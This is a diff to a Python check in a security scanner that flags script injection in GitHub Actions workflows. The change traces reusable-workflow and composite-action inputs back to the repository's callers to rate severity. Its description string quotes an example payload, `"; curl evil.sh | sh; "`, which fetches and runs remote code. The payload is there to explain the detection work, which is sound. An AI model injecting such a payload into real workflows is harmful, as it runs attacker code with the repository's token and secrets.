@@ -6,6 +6,7 @@ from typing import Any
 
 from checks.model import Hit, Severity
 from checks.ci._ci import action_name, composite_runs, gha_steps, locate, offset_line, value_line
+from checks.ci._callers import caller_values, input_origin
 from checks.ci._contexts import (
     EXPRESSION, caller_inputs, env_names, input_names, matrix_names, tainted_env, tainted_matrix, tainted_paths,
 )
@@ -40,7 +41,8 @@ def _sinks(step: Any) -> Iterator[tuple[Any, str, str]]:
 class _Taint:
     """What, around one step, carries attacker-controlled text into an expression."""
 
-    def __init__(self, env: dict[str, str], matrix: dict[str, str], inputs: set[str]):
+    def __init__(self, env: dict[str, str], matrix: dict[str, str],
+                 inputs: dict[str, tuple[str, str | None]]):
         self.env, self.matrix, self.inputs = env, matrix, inputs
 
     def describe(self, inner: str) -> tuple[list[str], list[str]]:
@@ -51,7 +53,13 @@ class _Taint:
             origin = self.matrix.get(n) or self.matrix.get("*")
             if origin:
                 high.append(f"`matrix.{n}` (built from `{origin}`)")
-        low = [f"`inputs.{n}`" for n in input_names(inner) if n in self.inputs]
+        low = []
+        for n in input_names(inner):
+            level, origin = self.inputs.get(n, (None, None))
+            if level == "high":
+                high.append(f"`inputs.{n}` (a caller passes `{origin}`)")
+            elif level == "low":
+                low.append(f"`inputs.{n}`")
         return high, low
 
 
@@ -85,12 +93,14 @@ def _hit(line: int, found: list[tuple[str, list[str], list[str]]], where: str) -
         "title, branch name, commit message or comment such as `\"; curl evil.sh | sh; \"` executes "
         "with the workflow's token and secrets. Checked in `run:` steps, `actions/github-script` `script:` "
         "and other script inputs, in workflows and composite actions (`action.yml`), directly or through "
-        "`env.X`/`matrix.X`; a composite action's or reusable workflow's own string `inputs.X` is LOW "
-        "(its callers decide what it holds).",
+        "`env.X`/`matrix.X`; a composite action's or reusable workflow's own string `inputs.X` is HIGH when "
+        "a caller in the repository passes such a value, silent when every caller passes constants, LOW "
+        "when the callers are not in the repository.",
     fix="Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) "
         "and use `\"$TITLE\"` in the script; in github-script read `context.payload` or `process.env` instead.",
     kinds={"gha"},
     include_tests=True,  # a workflow or composite action is CI wherever it lives (e.g. under e2e/)
+    repo_kinds={"gha"},  # what the repository's own callers pass to a reusable workflow / composite action
     prefilter=("${{",),
     example=Example(
         path=".github/workflows/triage.yml",
@@ -104,7 +114,13 @@ def _hit(line: int, found: list[tuple[str, list[str], list[str]]], where: str) -
 def check(f: SourceFile, ctx: Context) -> Iterator[Hit]:
     for doc in f.yaml_docs:
         workflow_env = doc.get("env") if isinstance(doc, dict) else None
-        inputs = caller_inputs(doc, composite_runs(doc) is not None)
+        composite = composite_runs(doc) is not None
+        callers = caller_values(f, ctx.repo, composite)
+        inputs = {}
+        for name in caller_inputs(doc, composite):
+            origin = input_origin(None if callers is None else callers.get(name, []))
+            if origin:
+                inputs[name] = origin
         for _job, job, step in gha_steps(doc):
             taint = _Taint(tainted_env([step.get("env"), job.get("env"), workflow_env]),
                            tainted_matrix(job.get("strategy")), inputs)
